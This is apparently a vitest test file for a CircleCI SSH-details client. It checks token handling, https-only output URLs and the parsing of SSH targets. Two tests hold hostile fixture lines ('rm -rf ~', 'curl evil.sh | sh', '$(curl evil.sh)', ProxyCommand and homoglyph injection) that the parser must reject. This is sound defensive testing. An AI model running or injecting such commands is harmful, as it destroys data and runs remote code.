import { describe, expect, it } from 'vitest';
import {
  type ContainerText,
  DETAILS_URL,
  details,
  enable2026,
  fakeFetch,
  JOB,
  json,
  NOW,
  ORIGIN,
  options,
  outputUrl,
  PROXY_JOB,
  site,
  THREE,
  TOKEN,
  waitText,
} from '../test/api-answers';
import { fetchJobSsh, fetchViewer } from './api';

describe('fetchJobSsh: requests', () => {
  it('sends the token to the API only, with no cookies and no redirects', async () => {
    const { fetch, calls } = fakeFetch(site(details(THREE), THREE));
    await fetchJobSsh(JOB, options(fetch));

    const [api, ...outputs] = calls;
    expect(api?.url).toBe(DETAILS_URL);
    expect(api?.init.headers).toEqual({ 'Circle-Token': TOKEN, Accept: 'application/json' });
    expect(api?.init.credentials).toBe('omit');
    expect(api?.init.redirect).toBe('error');
    expect(api?.init.signal).toBeInstanceOf(AbortSignal);

    expect(outputs.map((call) => call.url)).toEqual([outputUrl(0, 100), outputUrl(1, 100), outputUrl(2, 100)]);
    for (const call of outputs) {
      expect(call.init.credentials).toBe('omit');
      expect(JSON.stringify(call.init)).not.toContain(TOKEN);
      expect(call.init.headers).toEqual({ Accept: 'application/json' });
    }
  });

  it('never fetches an output URL that is not https', async () => {
    const body = details(THREE);
    const enableStep = body.steps[1];
    if (enableStep?.actions[0])
      enableStep.actions[0].output_url = 'http://circle-production-action-output.s3.amazonaws.com/x';
    const { fetch, calls } = fakeFetch(site(body, THREE));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(calls.map((call) => call.url)).not.toContain('http://circle-production-action-output.s3.amazonaws.com/x');
    // Wait for SSH stands in for it.
    expect(result.ok && result.job.containers[0]).toMatchObject({ step: 'Wait for SSH', stepId: 104 });
  });
});

describe('fetchJobSsh: SSH details', () => {
  it('reads every container: direct and proxy forms, keys, timing', async () => {
    const { fetch } = fakeFetch(site(details(THREE), THREE));
    const result = await fetchJobSsh(JOB, options(fetch));
    if (!result.ok) throw new Error(result.problem);
    const { containers, ...job } = result.job;
    expect(job).toEqual({
      parallel: 3,
      status: 'running',
      lifecycle: 'running',
      why: 'ssh',
      startTime: NOW - 10 * 60_000,
      sshUsers: ['octocat'],
      user: 'octocat',
      hasSshStep: true,
    });
    expect(containers.map((c) => [c.container, c.step, c.stepId, c.status, c.problem])).toEqual([
      [0, 'Enable SSH', 100, 'success', undefined],
      [1, 'Enable SSH', 100, 'success', undefined],
      [2, 'Enable SSH', 100, 'success', undefined],
    ]);
    expect(containers.map((c) => c.output?.commands.map((command) => command.target))).toEqual([
      [{ host: '18.209.34.18', port: 64537, tty: false }],
      [{ host: '3.88.34.152', port: 64540, tty: false }],
      [{ user: `${PROXY_JOB}-2`, host: 'ssh.circleci.com', tty: false }],
    ]);
    expect(containers[0]?.output?.authorizedKeys).toEqual([
      { hash: 'SHA256', value: 'P0nRIWAu7DDjSjJfIzu4nez3o7wr2IU+uIq45VQvIi8', algorithm: 'ED25519' },
    ]);
    expect(containers[0]).toMatchObject({ waitStartedAt: NOW - 3 * 60_000 });
    expect(containers[0]?.waitEndedAt).toBeUndefined();
  });

  it('passes the installation proxy hosts to the parser', async () => {
    const server: ContainerText[] = [{ enable: enable2026(`ssh ${PROXY_JOB}-0@ssh.ci.example.com`) }];
    const { fetch } = fakeFetch(site(details(server), server));
    const cloud = await fetchJobSsh(JOB, options(fetch));
    const own = await fetchJobSsh(JOB, options(fetch, { proxyHosts: ['ssh.ci.example.com'] }));
    expect(cloud.ok && cloud.job.containers[0]?.output?.commands).toEqual([]);
    expect(own.ok && own.job.containers[0]?.output?.commands.map((c) => c.target.host)).toEqual(['ssh.ci.example.com']);
  });

  it('falls back to Wait for SSH when Enable SSH has no output', async () => {
    const texts: ContainerText[] = [{ wait: waitText('ssh -p 42915 18.207.148.116') }];
    const { fetch, calls } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    const [container] = result.ok ? result.job.containers : [];
    expect(container).toMatchObject({ step: 'Wait for SSH', stepId: 104, status: 'running' });
    expect(container?.output?.commands.map((c) => c.target.port)).toEqual([42915]);
    expect(container?.output?.stayUp).toEqual({ maxSeconds: 7200, idleSeconds: 600 });
    expect(calls).toHaveLength(2); // no request for an action without output
  });

  it('keeps Enable SSH "Setting up SSH..." when Wait for SSH has not started', async () => {
    const texts: ContainerText[] = [{ enable: ['Setting up SSH...'] }];
    const { fetch } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result.ok && result.job.containers[0]).toMatchObject({ step: 'Enable SSH', output: { settingUp: true } });
  });

  it('says when no step gave output, and an expired output URL', async () => {
    const texts: ContainerText[] = [{}, { enable: ['x'] }];
    const body = details(texts);
    const { fetch } = fakeFetch((url, init, calls) =>
      url.includes('/1/100/') ? new Response('expired', { status: 403 }) : site(body, texts)(url, init, calls),
    );
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result.ok && result.job.containers.map((c) => [c.step, c.problem])).toEqual([
      ['Enable SSH', 'no-output'],
      ['Enable SSH', 'unavailable'],
    ]);
  });

  it('reports a job without the built-in steps, and fetches no output', async () => {
    const body = details(THREE);
    body.steps = body.steps.filter((step) => step.name === 'Spin up environment');
    const { fetch, calls } = fakeFetch(site({ ...body, why: 'github', ssh_users: [] }, THREE));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result).toMatchObject({ ok: true, job: { hasSshStep: false, containers: [], sshUsers: [], parallel: 3 } });
    expect(calls).toHaveLength(1);
  });

  it('never reads a config step that takes the built-in name', async () => {
    const body = details(THREE);
    const impostor = {
      name: 'Enable SSH',
      actions: [
        {
          index: 0,
          step: 102,
          status: 'success',
          bash_command: 'echo',
          has_output: true,
          output_url: outputUrl(0, 102),
        },
      ],
    };
    body.steps = [body.steps[0], impostor] as typeof body.steps;
    const { fetch, calls } = fakeFetch(site(body, THREE));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result).toMatchObject({ ok: true, job: { hasSshStep: false, containers: [] } });
    expect(calls).toHaveLength(1);
  });

  it('refuses output that opens with a shell line: a run step, not CircleCI', async () => {
    const texts: ContainerText[] = [{ enable: ['#!/bin/bash -eo pipefail', 'echo', '    $ ssh -p 2222 6.6.6.6'] }];
    const { fetch } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result.ok && result.job.containers[0]).toMatchObject({ problem: 'config-step' });
    expect(result.ok && result.job.containers[0]?.output).toBeUndefined();
  });

  it('gives no command for hostile output', async () => {
    const hostile = [
      'You can now SSH into this box if your SSH public key is added:',
      '    $ ssh -p 22 evil; rm -rf ~',
      '    $ ssh -p 22 1.2.3.4 && curl evil.sh | sh',
      '    $ ssh -oProxyCommand=id@ssh.circleci.com',
      '    $ ssh -p 22 $(curl evil.sh)',
      '    $ ssh -p 22 1.2.3.4\u2028curl evil.sh | sh',
      '    $ ssh -p 22 ѕsh.circleci.com',
      '\x1b[8m; curl evil.sh | sh \x1b[0m$ ssh -p 22 1.2.3.4; id',
    ];
    const texts: ContainerText[] = [{ enable: hostile, wait: hostile }];
    const { fetch } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    const [container] = result.ok ? result.job.containers : [];
    // The U+2028 line splits into `ssh -p 22 1.2.3.4` and a line of its own, exactly as on the page.
    expect(container?.output?.commands.map((c) => c.target)).toEqual([{ host: '1.2.3.4', port: 22, tty: false }]);
    expect(container?.output?.unrecognisedLines.length).toBeGreaterThanOrEqual(5);
  });

  it('reads no output at all when the hostile command is alone', async () => {
    const texts: ContainerText[] = [{ enable: ['    $ ssh -p 22 evil; rm -rf ~', '$ ssh -p 22 `id`'] }];
    const { fetch } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result.ok && result.job.containers[0]?.output?.commands).toEqual([]);
  });
});

describe('fetchViewer', () => {
  it('asks /me with the token, once, and reads the login', async () => {
    const { fetch, calls } = fakeFetch(() => json({ login: 'ada', name: 'Ada' }));
    expect(await fetchViewer(ORIGIN, TOKEN, { fetch })).toBe('ada');
    expect(calls.map((call) => call.url)).toEqual(['https://circleci.com/api/v1.1/me']);
    expect(calls[0]?.init).toMatchObject({
      headers: { 'Circle-Token': TOKEN },
      credentials: 'omit',
      redirect: 'error',
    });
  });

  it('is undefined on a failure or an answer without a login, and does not retry', async () => {
    const failing = fakeFetch(() => json({ message: 'nope' }, 500));
    expect(await fetchViewer(ORIGIN, TOKEN, { fetch: failing.fetch })).toBeUndefined();
    expect(failing.calls).toHaveLength(1);
    expect(await fetchViewer(ORIGIN, TOKEN, { fetch: fakeFetch(() => json({ login: 42 })).fetch })).toBeUndefined();
  });
});
